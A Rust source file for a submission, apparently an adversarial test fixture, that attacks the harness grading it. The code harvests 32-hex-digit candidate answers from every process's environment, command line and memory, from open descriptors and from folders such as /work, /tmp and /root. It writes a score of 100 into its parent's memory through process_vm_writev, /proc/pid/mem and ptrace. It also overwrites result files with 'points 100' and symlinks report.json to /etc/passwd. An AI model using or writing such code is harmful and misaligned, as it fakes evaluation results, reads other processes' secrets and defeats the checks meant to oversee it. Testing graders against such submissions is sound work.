//! A submission that looks for the answer everywhere, and writes its own mark wherever it can.

use std::fs;
use std::io::{Read, Seek, SeekFrom, Write};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

/// What is written over the mark.
const OWN_MARK: u64 = 100;
/// How much of a process's memory is read from one mapping.
const MOST: u64 = 8 << 20;

/// Says all that could be the answer, and `done`. `ADDRESS of the mark in our parent's memory, RESULTS outside`
pub fn steal(words: &str) -> ! {
    let (address, results) = words.split_once(' ').expect("two words");
    let mut loot = Loot::default();
    let address = address.parse().expect("an address");
    for pid in pids() {
        for file in ["environ", "cmdline"] {
            loot.take(&fs::read(format!("/proc/{pid}/{file}")).unwrap_or_default());
        }
        if pid != std::process::id() as i32 {
            write_mark(pid, address);
            loot.take(&memory(pid));
        }
    }
    for (name, value) in std::env::vars() {
        loot.take(format!("{name}={value}").as_bytes());
    }
    descriptors(&mut loot);
    let mut folders: Vec<PathBuf> = vec![
        "/work".into(),
        "/tmp".into(),
        "/home".into(),
        "/root".into(),
        "/var".into(),
        "/run".into(),
        ".".into(),
    ];
    folders.extend(Path::new(results).parent().map(Path::to_owned));
    while let Some(folder) = folders.pop() {
        look_through(&folder, &mut folders, &mut loot);
    }
    let _ = fs::write(results, "points 100");
    let report = Path::new(results).with_file_name("report.json");
    let _ = symlink("/etc/passwd", report);
    let _ = fs::write("results", "points 100");
    loot.tell();
    std::process::exit(0)
}

/// Words of 32 hexadecimal digits: what the answer looks like.
#[derive(Default)]
struct Loot(Vec<String>);

impl Loot {
    fn take(&mut self, bytes: &[u8]) {
        let mut run = 0;
        for (at, byte) in bytes.iter().chain([&0]).enumerate() {
            if byte.is_ascii_digit() || matches!(byte, b'a'..=b'f') {
                run += 1;
                continue;
            }
            if run == 32 && self.0.len() < 10_000 {
                self.0.push(String::from_utf8_lossy(&bytes[at - 32..at]).into_owned());
            }
            run = 0;
        }
    }

    fn tell(mut self) {
        self.0.sort();
        self.0.dedup();
        let mut out = std::io::stdout();
        for word in self.0 {
            let _ = writeln!(out, "{word}");
        }
        let _ = writeln!(out, "done");
        let _ = out.flush();
    }
}

fn pids() -> Vec<i32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

/// By every way that there is.
fn write_mark(pid: i32, address: usize) {
    let mark = OWN_MARK.to_ne_bytes();
    let same_program = || {
        let own = fs::read_link("/proc/self/exe").ok();
        own.is_some() && fs::read_link(format!("/proc/{pid}/exe")).ok() == own
    };
    // Only what runs this program has the mark there.
    if !same_program() && parent() != pid {
        return;
    }
    let local = libc::iovec { iov_base: mark.as_ptr().cast_mut().cast(), iov_len: 8 };
    let remote = libc::iovec { iov_base: address as *mut libc::c_void, iov_len: 8 };
    // SAFETY: the local bytes are valid for reading; the others are not ours.
    unsafe { libc::process_vm_writev(pid, &raw const local, 1, &raw const remote, 1, 0) };
    if let Ok(mut memory) = fs::OpenOptions::new().write(true).open(format!("/proc/{pid}/mem")) {
        let _ = memory.seek(SeekFrom::Start(address as u64));
        let _ = memory.write_all(&mark);
    }
    // SAFETY: ptrace touches no memory of ours; who was seized goes on when we end.
    unsafe {
        if libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) == 0 {
            libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0, 0);
            libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
            libc::ptrace(libc::PTRACE_POKEDATA, pid, address, OWN_MARK);
            libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
        }
    }
}

fn parent() -> i32 {
    // SAFETY: getppid always succeeds.
    unsafe { libc::getppid() }
}

/// What can be read of a process's memory: its heap, its stack and its data.
fn memory(pid: i32) -> Vec<u8> {
    let mut all = Vec::new();
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let Ok(mut file) = fs::File::open(format!("/proc/{pid}/mem")) else { return all };
    for line in maps.lines().filter(|line| line.contains(" rw") && !line.contains("memfd")) {
        let Some((from, to)) = line.split(' ').next().and_then(|range| range.split_once('-')) else {
            continue;
        };
        let number = |text| u64::from_str_radix(text, 16).unwrap_or(0);
        let length = (number(to) - number(from)).min(MOST);
        if file.seek(SeekFrom::Start(number(from))).is_ok() {
            let _ = (&mut file).take(length).read_to_end(&mut all);
            all.push(0);
        }
    }
    all
}

/// What we were left: everything above the standard streams.
fn descriptors(loot: &mut Loot) {
    for fd in 3..256 {
        if let Ok(bytes) = fs::read(format!("/proc/self/fd/{fd}")) {
            loot.take(&bytes);
        }
    }
}

/// Files that are not too large, and folders for later.
fn look_through(folder: &Path, folders: &mut Vec<PathBuf>, loot: &mut Loot) {
    const LARGEST: u64 = 1 << 16;
    const FOLDERS: usize = 2000;
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let Ok(facts) = entry.metadata() else { continue };
        if facts.is_dir() && folders.len() < FOLDERS && entry.path().components().count() < 6 {
            // Where others build and work there is too much to read.
            if !entry.path().starts_with("/work/wt")
                && !entry.path().starts_with("/work/main")
                && !entry.path().starts_with("/root/.")
            {
                folders.push(entry.path());
            }
        } else if facts.is_file() && facts.len() <= LARGEST {
            loot.take(&fs::read(entry.path()).unwrap_or_default());
        }
    }
}
